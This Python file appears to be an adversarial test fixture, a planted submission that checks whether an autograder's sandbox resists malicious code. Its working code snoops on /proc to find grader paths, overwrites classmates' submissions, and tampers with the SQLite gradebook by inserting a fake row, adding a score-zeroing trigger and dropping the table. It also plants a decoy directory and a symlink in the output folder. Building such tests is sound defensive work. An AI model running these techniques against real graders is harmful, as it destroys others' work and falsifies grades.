# Attack: find the grader through /proc (cwd, cmdline, open files), then rewrite classmates' submissions, plant rows, a trigger and a dropped table in the gradebook, and a directory named results.json and a symlink named grades.csv in the output folder. Expected: nothing found or changed; score of the honest part (4).
import glob
import os
import sqlite3

TARGETS = {}  # filled in by the test: the class folder, the output folder and the gradebook

found = {TARGETS.get("class", ""), TARGETS.get("out", "")}
for link in glob.glob("/proc/[0-9]*/cwd") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        found.add(os.path.realpath(link))
    except OSError:
        pass
for cmdline in glob.glob("/proc/[0-9]*/cmdline"):
    try:
        found.update(p for p in open(cmdline, "rb").read().decode(errors="replace").split("\0") if p.startswith("/"))
    except OSError:
        pass
# Safety of the test itself: should the sandbox fail, touch only this test's own folders, never the machine's.
mine = os.path.dirname(TARGETS.get("class", "/nonexistent"))
for folder in sorted(p for p in found if p and os.path.isdir(p) and p.startswith(mine + "/")):
    for path in glob.glob(os.path.join(folder, "*")):
        if path.endswith((".py", ".ipynb")) and "attack" not in os.path.basename(path):
            try:
                with open(path, "w") as handle:
                    handle.write("raise SystemExit('overwritten by a classmate')\n")
            except OSError:
                pass
for book in [TARGETS.get("gradebook", "")] + [p for p in found if p.endswith(".sqlite") and p.startswith(mine + "/")]:
    try:
        db = sqlite3.connect(book, timeout=1, isolation_level=None)
    except Exception:  # noqa: BLE001
        continue
    row = {"student": "attack_proc_snoop", "assignment": "two-layer", "version": 1, "digest": "x", "seed": 0,
           "score": 10, "status": "ok", "data": "{}"}
    for statement, values in (
            ("CREATE TRIGGER zero AFTER INSERT ON results BEGIN UPDATE results SET score = 0; END", ()),
            (f"INSERT INTO results ({', '.join(row)}) VALUES ({', '.join('?' * len(row))})", tuple(row.values())),
            ("DROP TABLE results", ())):
        try:  # each on its own: one refused statement must not spare the others
            db.execute(statement, values)
        except Exception:  # noqa: BLE001
            pass
out = TARGETS.get("out", "")
for name, make in (("results.json", lambda p: os.mkdir(p)),
                   ("grades.csv", lambda p: os.symlink(os.path.join(TARGETS.get("class", ""), "carol_sign_error.py"), p))):
    try:
        make(os.path.join(out, name))
    except OSError:
        pass
